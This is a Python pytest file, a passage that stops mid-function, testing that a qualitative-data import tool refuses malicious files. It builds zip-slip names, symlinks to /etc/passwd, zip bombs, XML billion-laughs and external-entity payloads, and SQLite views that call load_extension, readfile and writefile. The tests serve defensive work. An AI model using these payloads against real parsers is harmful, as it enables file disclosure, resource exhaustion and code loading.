"""Files that were made to do harm: each is refused by its name and place, or read; nothing else is touched.

What could take memory or time without a bound runs in a process of its own, with 1.5 GB and two minutes.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tracemalloc
import unicodedata
import zipfile
from contextlib import closing, nullcontext, suppress
from pathlib import Path

import projects
import pytest
from openpyxl import Workbook
from test_refi_qda import CODES, TEXT, project, quote, quotes, selection, source

import kg
from kg import exports, importing, paths
from kg.errors import KGError, StudyError
from kg.loaders import study as loader
from kg.loaders.imports import Options, safe, web_annotation

DAY = datetime.date(2026, 1, 2)
LIMIT = 1_500_000_000
LINUX = pytest.mark.skipif(sys.platform != "linux", reason="needs /proc")
POSIX = pytest.mark.skipif(os.name != "posix", reason="needs POSIX files")


# ---- What every test asks for


def tree(folder):
    """Return everything in a folder, hidden things too: files with their bytes, links with what they name."""
    found = {}
    for path in sorted(folder.rglob("*")):
        name = path.relative_to(folder).as_posix()
        if path.is_symlink():
            found[name] = ("link", os.readlink(path))
        elif path.is_file():
            found[name] = ("file", path.read_bytes())
        else:
            found[name] = ("folder",) if path.is_dir() else ("other",)
    return found


def take(path, into=None, **more):
    """Import a file, check that nothing but the study was made or changed, and load the study."""
    folder = into or path.parent / "taken"

    def outside():
        made = folder.relative_to(path.parent).as_posix()
        return {name: held for name, held in tree(path.parent).items() if name.split("/")[0] != made}

    before = outside()
    report = importing.import_file(path, folder, Options(), DAY, **more)
    assert outside() == before
    return report, loader.load(folder).study


def refused(path, *words, rule=None, into=None, **more):
    """Import a file, check that it is refused in some words and that nothing was made or changed."""
    before = tree(path.parent)
    with pytest.raises(StudyError) as caught:
        importing.import_file(path, into or path.parent / "deep" / "taken", Options(), DAY, **more)
    assert tree(path.parent) == before
    said = str(caught.value)
    assert len(said) < 4000
    for word in (path.name, *words):
        assert word in said
    if rule:
        assert {finding.rule for finding in caught.value.findings} == {rule}
    return caught.value.findings[0]


_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))
resource.setrlimit(resource.RLIMIT_CPU, ({seconds}, {seconds}))
from kg.cli import main
main()
"""


def limited(path, into=None, limit=LIMIT, seconds=120):
    """Import a file in a process of its own, of so many seconds of the processor; return its exit code and what it said."""
    folder = into or path.parent / "taken"
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            _LIMITED.format(limit=limit, seconds=seconds),
            "import",
            str(path),
            "--into",
            str(folder),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    return done.returncode, done.stdout + done.stderr


def taken_or_refused(path):
    """Import a file; whichever it is, nothing else was made or changed, and what was made is whole."""
    before = tree(path.parent)
    try:
        return take(path)
    except KGError as e:
        said = str(e)
    assert path.name in said
    assert tree(path.parent) == before
    return None


def refused_within_bounds(path, *words):
    before = {p.name: p.stat().st_size for p in path.parent.rglob("*")}
    code, said = limited(path)
    assert code == 2, said[-2000:]
    for word in (path.name, *words):
        assert word in said
    assert {p.name: p.stat().st_size for p in path.parent.rglob("*")} == before


# ---- Zip files


def zipped(path, members, method=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


def lying(path, member, **said):
    """Say something else of a member in the list of members: ``size``, ``packed``, ``crc``, ``method``, ``flags``."""
    fields = {"flags": ("<H", 8), "method": ("<H", 10), "crc": ("<L", 16), "packed": ("<L", 20), "size": ("<L", 24)}
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length].decode() == member:
            for name, value in said.items():
                form, offset = fields[name]
                struct.pack_into(form, data, at + offset, value)
        at = data.find(b"PK\x01\x02", at + 46)
    path.write_bytes(data)
    return path


QDE = f'<Project name="S" xmlns="urn:QDA-XML:project:1.0">{CODES}<Sources>%s</Sources></Project>'
ONE = QDE % source(quote(TEXT, "We trust them"))


@pytest.mark.parametrize(
    "name",
    ["../../x", "/etc/x", "C:\\x", "..\\x", "sources/../../x", "\\\\server\\share\\x", "sources\\..\\..\\x", "C:x"],
)
@pytest.mark.parametrize("kind", ["study.qdpx", "table.xlsx"])
def test_a_member_that_leads_out_of_the_archive_is_refused_by_name(tmp_path, name, kind):
    path = zipped(tmp_path / kind, [("project.qde", ONE), ("sources/T1.txt", TEXT)])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), "evil")
    refused(path, ascii(name)[1:-1], "leads out of the archive", rule="unsafe-archive")


def test_a_symbolic_link_in_an_archive_is_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE)])
    link = zipfile.ZipInfo("sources/T1.txt")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    refused(path, "sources/T1.txt", "is a symbolic link", rule="unsafe-archive")


def test_an_encrypted_member_is_refused(tmp_path):
    path = lying(zipped(tmp_path / "study.qdpx", [("project.qde", ONE)]), "project.qde", flags=1)
    refused(path, "project.qde", "is encrypted", rule="unsafe-archive")


@pytest.mark.parametrize(("method", "number"), [(zipfile.ZIP_BZIP2, 12), (zipfile.ZIP_LZMA, 14)])
def test_a_member_packed_by_a_method_that_unpacks_without_a_bound_is_refused(tmp_path, method, number):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", bytes(10_000_000))], method)
    refused(lying(path, "sources/T1.txt", size=10), "packed by another method", rule="unsafe-archive")


def test_a_member_that_unpacks_a_thousandfold_is_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", bytes(20_000_000))])
    refused(path, "sources/T1.txt", "a zip bomb", rule="unsafe-archive")


def test_members_that_together_unpack_to_too_much_are_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), *((f"sources/{n}.txt", "x") for n in range(50))])
    for number in range(50):
        lying(path, f"sources/{number}.txt", size=100_000_000, packed=1_000_000)
    refused(path, "5,000,0", "more than 4,294,967,296", rule="unsafe-archive")


def test_one_member_that_is_too_big_is_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", TEXT)])
    refused(lying(path, "sources/T1.txt", size=600_000_000, packed=6_000_000), "sources/T1.txt", rule="unsafe-archive")


def test_a_text_that_no_study_could_read_is_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", TEXT)])
    lying(path, "sources/T1.txt", size=200_000_000, packed=2_000_000)
    refused(path, "sources/T1.txt", "200,000,000 bytes", rule="file-too-big")


def test_too_many_members_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_MEMBERS", 10)
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), *((f"sources/{n}.txt", "x") for n in range(10))])
    refused(path, "11 members", rule="unsafe-archive")


def test_a_member_that_unpacks_to_far_more_than_it_says_takes_no_memory(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", bytes(100_000_000))])
    lying(path, "sources/T1.txt", size=10)
    tracemalloc.start()
    refused(path, "sources/T1.txt", "CRC", rule="broken-archive")
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 20_000_000


def test_a_text_that_many_documents_share_is_not_written_for_each(tmp_path):
    texts = "".join(source().replace("T1", f"T1{n}").replace(f"T1{n}.txt", "T1.txt") for n in range(2000))
    path = zipped(tmp_path / "study.qdpx", [("project.qde", QDE % texts), ("sources/T1.txt", TEXT)])
    refused(path, "sources/T1.txt", "is the text of more than 8 documents", rule="unsafe-archive")


def test_notes_that_have_more_text_than_a_study_can_hold_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safe, "MAX_BYTES", 100_000)
    notes = "".join(f'<Note guid="N{n}" plainTextPath="internal://N.txt"/>' for n in range(12))
    xml = f'<Project name="S"><Sources/><Notes>{notes}</Notes></Project>'
    path = zipped(tmp_path / "study.qdpx", [("project.qde", xml), ("sources/N.txt", "A line.\n" * 2000)])
    refused(path, "project.qde", "its notes have more than 100,000", rule="file-too-big")


@pytest.mark.parametrize("twin", ["sources/T1.txt", "Sources/t1.TXT", "sources\\T1.txt"])
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_member_that_stands_there_twice_is_refused(tmp_path, twin):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("sources/T1.txt", TEXT), (twin, "Something else.")])
    refused(path, "twice", rule="unsafe-archive")


def test_a_member_without_a_name_is_refused(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", ONE), ("x", TEXT)])
    data = path.read_bytes()
    at = data.rfind(b"PK\x01\x02")
    path.write_bytes(data[: at + 46] + b"\0" + data[at + 47 :])
    refused(path, "has no name", rule="unsafe-archive")


@pytest.mark.parametrize("data", [b"", b"PK", b"not a zip file", b"\0" * 5000, b"PK\x05\x06" + b"\xff" * 18])
@pytest.mark.parametrize("kind", ["study.qdpx", "table.xlsx"])
def test_what_is_no_zip_file_is_refused(tmp_path, data, kind):
    path = tmp_path / kind
    path.write_bytes(data)
    refused(path, "cannot be unzipped", rule="broken-archive")


def test_a_zip_file_that_was_cut_off_anywhere_is_refused(tmp_path):
    whole = project(tmp_path, source(quote(TEXT, "We trust them")))
    data = whole.read_bytes()
    for length in range(0, len(data), 97):
        whole.write_bytes(data[:length])
        refused(whole, rule="broken-archive")


@pytest.mark.parametrize("member", ["project.qde", "sources/T1.txt"])
def test_a_member_whose_checksum_is_wrong_is_refused_by_name(tmp_path, member):
    path = lying(project(tmp_path, source(quote(TEXT, "We trust them"))), member, crc=7)
    refused(path, member, "CRC", rule="broken-archive")


def test_a_member_whose_place_or_local_name_is_nonsense_is_refused(tmp_path):
    path = project(tmp_path, source(quote(TEXT, "We trust them")))
    data = path.read_bytes()
    for place in (0, 1, 2**31, 2**32 - 9):
        broken = bytearray(data)
        at = broken.rfind(b"PK\x01\x02")
        struct.pack_into("<L", broken, at + 42, place + 7)
        path.write_bytes(broken)
        refused(path, rule="broken-archive")
    # The list says that names are UTF-8, and the name at the member's place is not.
    broken = bytearray(data.replace(b"sources/T1.txt", b"sources/T\xff.txt", 1))
    struct.pack_into("<H", broken, broken.rfind(b"PK\x01\x02") + 8, 0x800)
    path.write_bytes(broken)
    refused(path, rule="broken-archive")


def test_an_archive_without_a_project_is_refused_with_what_it_holds(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("a.txt", "x"), ("word/document.xml", "<w/>")])
    refused(path, rule="unknown-format")
    refused(path, "has no project.qde, but a.txt, word/document.xml", rule="broken-archive", name="refi-qda")


@POSIX
def test_names_of_members_that_are_all_accents_take_no_time(tmp_path):
    accents = "\u0301\u0316" * 7500  # in the wrong order
    members = [(f"sources/{n}{accents}.txt", "x") for n in range(60)]
    inside = "".join(source(path=f"internal://{n}{accents}").replace("T1", f"T{n}") for n in range(60))
    path = zipped(tmp_path / "study.qdpx", [("project.qde", QDE % inside), *members])
    code, said = limited(path, seconds=60)
    assert code == 0, said
    assert "60 documents" in said


@pytest.mark.slow
@POSIX
def test_passages_that_overlap_take_no_memory(tmp_path):
    """20,000 times nearly the whole of a text of 2 MB: 40 GB from a file of 200 kB."""
    text = "A line that stands here again and again, and again.\n" * 40_000
    inside = "".join(selection(n, len(text) - n, name="A line that stands here") for n in range(20_000))
    path = zipped(tmp_path / "study.qdpx", [("project.qde", QDE % source(inside)), ("sources/T1.txt", text)])
    refused_within_bounds(path, "the passages and memos of 'Interview' have more than 104,857,600 characters")


@POSIX
def test_a_note_that_many_codings_share_takes_no_memory(tmp_path):
    inside = "".join(selection(n, n + 1, inside='<NoteRef targetGUID="N"/>') for n in range(20_000))
    xml = QDE.replace("</Project>", '<Notes><Note guid="N" plainTextPath="internal://N.txt"/></Notes></Project>') % (
        source(inside)
    )
    text = "A line that stands here again and again, and again.\n" * 40_000
    path = zipped(tmp_path / "study.qdpx", [("project.qde", xml), ("sources/T1.txt", text), ("sources/N.txt", text)])
    refused_within_bounds(path, "project.qde", "the notes beside passages of 'Interview' have more than 104,857,600")


# ---- XML

SECRET = "the secret that no import may show"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPES = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY l9 "{"lol" * 20_000}">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY l9 SYSTEM "{secret}">]>',
    "external parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{secret}"> %p; <!ENTITY l9 "x">]>',
    "external document type": '<!DOCTYPE x SYSTEM "{secret}" [<!ENTITY l9 "x">]>',
    "default attribute": '<!DOCTYPE x [<!ATTLIST Code name CDATA "evil"><!ENTITY l9 "x">]>',
    "plain document type": '<!DOCTYPE x [<!ENTITY l9 "x">]>',
}
PLACES = {
    "in a text": ('name="Trust"', "<Description>" + "&l9;" * 3000 + "</Description>"),
    "in an attribute": ('name="&l9;&l9;"', ""),
    "nowhere": ('name="Trust"', ""),
}


def secret(folder):
    path = folder / "secret.txt"
    path.write_text(SECRET)
    return path.as_uri()


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("kind", ["book.qdc", "study.qdpx"])
def test_a_document_type_is_refused_and_nothing_is_expanded_or_fetched(tmp_path, doctype, place, kind):
    name, inside = PLACES[place]
    codes = f'<CodeBook xmlns="x"><Codes><Code guid="C1" {name}>{inside}</Code></Codes></CodeBook>'
    head = '<?xml version="1.0"?>' + DOCTYPES[doctype].replace("{secret}", secret(tmp_path))
    path = tmp_path / kind
    if kind == "book.qdc":
        path.write_text(head + codes)
    else:
        zipped(path, [("project.qde", f'{head}<Project name="S" xmlns="x">{codes}<Sources/></Project>')])
    found = refused(path, rule="broken-xml")
    assert SECRET not in str(found)
    assert "document type" in found.message or "ntit" in found.message  # libxml2 may see an undefined entity first


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_a_document_type_in_another_encoding_is_refused(tmp_path, encoding):
    path = tmp_path / "book.qdc"
    text = f'{DOCTYPES["plain document type"]}<CodeBook><Codes><Code guid="a" name="&l9;"/></Codes></CodeBook>'
    path.write_bytes(text.encode(encoding))
    refused(path, rule="broken-xml")


@pytest.mark.parametrize(
    ("xml", "words"),
    [
        ("", "no element found"),
        ("<CodeBook><Codes>", "Premature end"),
        ("<CodeBook>\n\n<Codes></Code></CodeBook>", "mismatch"),
        ("<CodeBook>\x00</CodeBook>", ""),
        ("not XML", "expected"),
        ("<html><body/></html>", "it has no CodeBook element"),
        ("<CodeBook><Codes>" + '<Code guid="a">' * 100_000, "depth"),
        (f'<CodeBook><Codes><Code guid="a" name="{"x" * 11_000_000}"/></Codes></CodeBook>', "limit exceeded"),
        (f'<CodeBook><Codes><Code guid="a"><Description>{"x" * 11_000_000}</Description></Code></Codes></CodeBook>', ""),
        ('<CodeBook><Codes><Code guid="a" guid="b"/></Codes></CodeBook>', "redefined"),
        ("<CodeBook><Codes><Code name='&undefined;'/></Codes></CodeBook>", ""),
        ("<CodeBook>\udcff</CodeBook>", ""),
    ],
    ids=["empty", "cut off", "not nested", "NUL", "no XML", "another root", "too deep", "an attribute of 11 MB",
         "a text of 11 MB", "an attribute twice", "an undefined entity", "no UTF-8"],
)  # fmt: skip
def test_xml_that_is_broken_or_past_belief_is_refused(tmp_path, xml, words):
    path = tmp_path / "book.qdc"
    path.write_bytes(xml.encode("utf-8", "surrogateescape"))
    refused(path, words, rule="broken-xml")


def test_the_line_of_broken_xml_is_said(tmp_path):
    path = tmp_path / "book.qdc"
    path.write_text("<CodeBook>\n<Codes>\n<Code></Codes>\n</CodeBook>")
    assert refused(path, "book.qdc:3").line == 3


def test_a_project_of_another_root_has_nothing_in_it(tmp_path):
    path = zipped(tmp_path / "study.qdpx", [("project.qde", "<html><body>x</body></html>")])
    report, study = take(path)
    assert not sum(report.taken.values())
    assert study.sources == ()


@pytest.mark.slow
@POSIX
@pytest.mark.parametrize("inside", ["<a/>", "<a b=''/>"])
def test_elements_without_end_take_no_memory(tmp_path, inside):
    """A zip file of 60 kB can unpack to 60 MB of XML, which is 2 GB as objects."""
    xml = f"<Project>{inside * (60_000_000 // len(inside))}</Project>"
    path = zipped(tmp_path / "study.qdpx", [("project.qde", xml)], zipfile.ZIP_STORED)
    refused_within_bounds(path, "project.qde", "more than 3,000,000 elements and attributes")


@POSIX
def test_xml_of_another_root_is_not_read_to_its_end(tmp_path):
    path = tmp_path / "book.qdc"
    path.write_text(f"<html>{'<a/>' * 15_000_000}</html>")
    refused_within_bounds(path, "nothing at its beginning is known")


@pytest.mark.parametrize("inside", ["<Links>%s</Links>", "<Notes>%s</Notes>", "<Sets>%s</Sets>", "<Cases>%s</Cases>"])
def test_more_notes_links_or_cases_than_a_project_has_are_refused(tmp_path, monkeypatch, inside):
    monkeypatch.setattr(safe, "MAX_TAKEN", 1000)
    one = f"<{inside[1:5].rstrip('s')}/>"
    path = zipped(tmp_path / "study.qdpx", [("project.qde", f"<Project>{inside % (one * 2000)}</Project>")])
    refused(path, "project.qde", "more than 1,000 documents, notes, links", rule="broken-xml")


@pytest.mark.parametrize(
    "member", ["xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"]
)
@pytest.mark.parametrize("doctype", DOCTYPES)
def test_a_document_type_in_a_workbook_is_refused(tmp_path, member, doctype):
    path = workbook(tmp_path)
    head = DOCTYPES[doctype].replace("{secret}", secret(tmp_path)).encode()
    rewritten(path, member, lambda data: re.sub(rb"(<\?xml.*?\?>)?", lambda m: m[0] + head, data, count=1))
    found = refused(path, member, rule="broken-xml")
    assert SECRET not in str(found)


# ---- Workbooks


def workbook(folder, rows=(("quote", "code"), ("It works.", "trust"))):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(folder / "table.xlsx")
    return folder / "table.xlsx"


def rewritten(path, member, change, name=None):
    """Change a member of a zip file, and perhaps its name."""
    with zipfile.ZipFile(path) as old:
        held = {n: old.read(n) for n in old.namelist()}
    zipped(path, [(name if name and n == member else n, change(d) if n == member else d) for n, d in held.items()])
    return path


def test_a_worksheet_that_is_not_called_xml_is_checked_like_any_other(tmp_path):
    path = workbook(tmp_path)
    head = DOCTYPES["quadratic blow-up"].encode()
    rewritten(path, "xl/worksheets/sheet1.xml", lambda data: head + data, name="xl/worksheets/sheet1.png")
    for member in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
        rewritten(path, member, lambda data: data.replace(b"sheet1.xml", b"sheet1.png"))
    refused(path, "xl/worksheets/sheet1.png", "document type", rule="broken-xml")


def test_a_picture_in_a_workbook_is_no_matter(tmp_path):
    path = workbook(tmp_path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/media/image1.png", b"\x89PNG\r\n<<<>>>" + bytes(range(256)) * 100)
    assert take(path)[0].unconfirmed


def test_links_of_a_workbook_to_other_files_are_not_followed(tmp_path):
    path = workbook(tmp_path)
    target = secret(tmp_path)
    external = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/externalLinks/externalLink1.xml", external)
        archive.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", rels)
    rewritten(
        path, "xl/_rels/workbook.xml.rels",
        lambda data: data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                                  b'officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                                  b"</Relationships>"),
    )  # fmt: skip
    take(path)
    assert not [p for p in (tmp_path / "taken").rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]


@pytest.mark.parametrize(
    "target", ["../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "xl/worksheets/none.xml"]
)
def test_a_sheet_outside_the_workbook_is_not_read(tmp_path, target):
    path = workbook(tmp_path)
    rewritten(
        path, "xl/_rels/workbook.xml.rels",
        lambda data: re.sub(rb'Target="[^"]*sheet1.xml"', f'Target="{target}"'.encode(), data),
    )  # fmt: skip
    refused(path, "broken-table")


@POSIX
def test_a_workbook_of_one_long_repeated_string_takes_no_memory(tmp_path):
    path = workbook(tmp_path)
    rows = b"<row>%b%b</row>" % ((b'<c t="s"><v>0</v></c>',) * 2)
    for number in range(8_000):
        rows += b'<row><c t="s"><v>1</v></c><c><v>%d</v></c></row>' % number
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    with zipfile.ZipFile(path, "a") as archive:
        text = f"<si><t>quote</t></si><si><t>{'It works. ' * 3000}</t></si>"
        archive.writestr("xl/sharedStrings.xml", f"<sst {main}>{text}</sst>")
    rewritten(path, "xl/worksheets/sheet1.xml", lambda data: re.sub(rb"<row.*</row>", rows, data, flags=re.S))
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + kind + b'"/></Types>'
    rewritten(path, "[Content_Types].xml", lambda data: data.replace(b"</Types>", part))
    refused_within_bounds(path, "its cells have more than 209,715,200 characters together")


# ---- SQLite files

MADE = {
    "qualcoder": lambda folder: (projects.qualcoder(folder / "made.qda") / "data.qda").replace(folder / "pilot.qda"),
    "rqda": lambda folder: projects.rqda(folder / "pilot.rqda"),
    "requal": lambda folder: projects.requal(folder / "pilot.requal"),
}


@pytest.fixture(params=sorted(MADE))
def database(request, tmp_path):
    """A small project of each tool whose builder is here."""
    path = MADE[request.param](tmp_path)
    for left in tmp_path.iterdir():
        if left.is_dir():
            left.rmdir()
    return path


def documents_of(path):
    """Return the table of documents and the column of their texts."""
    return {".qda": ("source", "fulltext"), ".rqda": ("source", "file"), ".requal": ("documents", "doc_text")}[
        path.suffix
    ]


@pytest.mark.parametrize(
    "data", [b"", b"SQLite format 3", b"SQLite format 3\0", b"SQLite format 3\0" + b"\xff" * 4096, b"{}"]
)
def test_what_is_no_database_is_refused(database, data):
    database.write_bytes(data)
    looks_like_one = data.startswith(b"SQLite format 3\0")
    refused(database, rule="broken-database" if looks_like_one else "unknown-format")
    name = {".qda": "qualcoder"}.get(database.suffix, database.suffix[1:])
    refused(database, rule="broken-database", name=name)


def test_a_database_that_was_cut_off_is_refused_or_what_is_there_is_read(database):
    whole = database.read_bytes()
    for length in range(512, len(whole), 9_973):
        path = database.parent / str(length) / database.name
        path.parent.mkdir()
        path.write_bytes(whole[:length])
        taken_or_refused(path)


def test_triggers_are_never_run(database):
    table, _ = documents_of(database)
    projects.change(
        database,
        "CREATE TABLE evil (x)",
        f"CREATE TRIGGER t AFTER INSERT ON {table} BEGIN INSERT INTO evil VALUES (1); END",
    )
    assert take(database)[1].sources
    with closing(sqlite3.connect(database)) as connection:
        assert connection.execute("SELECT count(*) FROM evil").fetchone() == (0,)


EVIL = {
    "an endless query": "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c",
    "a function that loads code": "SELECT load_extension('/tmp/evil.so') AS n",
    "a function that writes": "SELECT writefile('/tmp/evil', 'x') AS n",
    "a function that reads": "SELECT readfile('/etc/passwd') AS n",
    "a function that takes memory": "SELECT randomblob(400000000) AS n",
}


@pytest.mark.parametrize("what", EVIL)
def test_a_view_in_the_place_of_a_table_is_refused_whatever_it_does(database, what):
    table, _ = documents_of(database)
    with closing(sqlite3.connect(database)) as connection:
        listed = [row[1] for row in connection.execute(f"PRAGMA table_info({table})")]
    shown = ", ".join(f"n AS {name}" for name in listed)
    projects.change(
        database, f"ALTER TABLE {table} RENAME TO other", f"CREATE VIEW {table} AS SELECT {shown} FROM ({EVIL[what]})"
    )
    refused(database, rule="broken-database")


def test_a_computed_column_in_the_place_of_a_text_is_refused(database):
    """What it computes would be one step that no limit ends."""
    table, column = documents_of(database)
    slow = "replace(hex(zeroblob(60000)), '0', 'a') LIKE '%a%a%a%a%a%a%a%b'"
    projects.change(
        database,
        f"ALTER TABLE {table} RENAME COLUMN {column} TO other",
        f"ALTER TABLE {table} ADD COLUMN {column} TEXT GENERATED ALWAYS AS ({slow}) VIRTUAL",
    )
    refused(database, "more than plain tables", rule="broken-database")


def test_a_virtual_table_in_the_place_of_a_table_is_refused(database):
    table, _ = documents_of(database)
    with closing(sqlite3.connect(database)) as connection:
        listed = ", ".join(row[1] for row in connection.execute(f"PRAGMA table_info({table})"))
    projects.change(
        database, f"ALTER TABLE {table} RENAME TO other", f"CREATE VIRTUAL TABLE {table} USING fts4({listed})",
    )  # fmt: skip
    refused(database, rule="broken-database")


@pytest.mark.parametrize("name", ["-wal", "-journal"])
def test_a_journal_beside_a_database_is_neither_replayed_nor_touched(database, name):
    database.with_name(f"{database.name}{name}").write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(2000))
    refused(database, f"{database.name}{name}", rule="broken-database")


def test_an_empty_journal_beside_a_database_is_no_matter(database):
    database.with_name(f"{database.name}-wal").write_bytes(b"")
    database.with_name(f"{database.name}-shm").write_bytes(bytes(32_768))
    assert take(database)[1].sources


def test_reading_a_database_in_wal_mode_makes_no_file_beside_it(database):
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
    assert database.read_bytes()[18] == 2
    assert take(database)[1].sources


@pytest.mark.slow
@POSIX
def test_a_million_rows_of_junk_take_neither_memory_nor_long(tmp_path):
    path = MADE["rqda"](tmp_path)
    many = "WITH RECURSIVE c(n) AS (SELECT 100 UNION ALL SELECT n + 1 FROM c LIMIT 1000000)"
    projects.change(
        path, f"{many} INSERT INTO coding (cid, fid, selfirst, selend, status, owner, memo) SELECT n, n, n, n, 1, n, n FROM c",
    )  # fmt: skip
    code, said = limited(path)
    assert code == 0, said
    assert "1,000,001  codings of documents that are missing" in said


def shared(path):
    """Make many rows of a table share one text of 4 MB, as no program would: 100 rows of 4 MB in a file of 4 MB."""
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA page_size = 4096")
        connection.execute("DELETE FROM journal")
        connection.commit()
        connection.execute("VACUUM")
        connection.execute(
            "INSERT INTO journal (rowid, name) VALUES (?, ?)", (1, "x" * 3_998_383)
        )  # 509 bytes here, the rest elsewhere
        connection.commit()
        (root,) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = 'journal'").fetchone()
    data = bytearray(path.read_bytes())
    at = (root - 1) * 4096
    assert (data[at], struct.unpack_from(">H", data, at + 3)[0]) == (13, 1)
    (place,) = struct.unpack_from(">H", data, at + 8)
    cell = data[at + place : at + 4096]
    # A cell: length of the record (four bytes here), rowid, what stands on this page, the page where it goes on.
    start = 4096
    for number in range(1, 61):
        start -= len(cell)
        if start < 8 + 2 * 60:
            break
        data[at + start : at + start + len(cell)] = cell[:4] + bytes([number]) + cell[5:]
        struct.pack_into(">H", data, at + 8 + 2 * (number - 1), start)
        struct.pack_into(">H", data, at + 3, number)
        struct.pack_into(">H", data, at + 5, start)
    path.write_bytes(data)
    return struct.unpack_from(">H", data, at + 3)[0]


def test_rows_that_share_their_pages_take_no_memory(tmp_path, monkeypatch):
    path = projects.rqda(tmp_path / "pilot.rqda")
    number = shared(path)
    assert number == 7
    monkeypatch.setattr("kg.loaders.imports.rows.MAX_BYTES", 20_000_000)
    refused(path, "'journal' holds more than 20,000,000 characters", rule="broken-database")


@pytest.mark.slow
@POSIX
@pytest.mark.parametrize("what", ["a chain", "a circle", "one name"])
def test_thirty_thousand_codes_take_no_time(tmp_path, what):
    path = MADE["qualcoder"](tmp_path)
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("DELETE FROM code_cat")
        above = "n - 1" if what != "one name" else "NULL"
        name = "'!' || char(n)" if what == "one name" else "'k' || n"
        connection.execute(
            "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c LIMIT 30000) "
            f"INSERT INTO code_cat (catid, name, supercatid) SELECT n, {name}, {above} FROM c"
        )
        if what == "a circle":
            connection.execute("UPDATE code_cat SET supercatid = 30000 WHERE catid = 1")
        connection.commit()
    code, said = limited(path, seconds=100)
    assert code == 0, said
    assert ("circles among codes" in said) == (what == "a circle")
    assert ("588  places of codes more than 50 deep" in said) == (what != "one name")


@POSIX
def test_a_tag_of_a_million_dots_takes_no_time(tmp_path):
    path = tmp_path / "pilot.sqlite3"
    projects.make(
        path,
        {
            "projects": "id integer primary key, name text, description text, created text",
            "documents": "id integer primary key, name text, contents text, description text",
            "tags": "id integer primary key, path text, description text",
            "highlights": "id integer primary key, document_id integer, start_offset integer, end_offset integer, snippet text",
            "highlight_tags": "highlight_id integer, tag_id integer",
        },
        {"projects": [{"id": 1, "name": "P"}], "tags": [{"id": 1, "path": "." * 1_000_000}, {"id": 2, "path": "a.b"}]},
    )
    code, said = limited(path, seconds=60)
    assert code == 0, said


@pytest.mark.slow
@POSIX
def test_a_passage_far_longer_than_what_is_stored_of_it_takes_no_time(tmp_path):
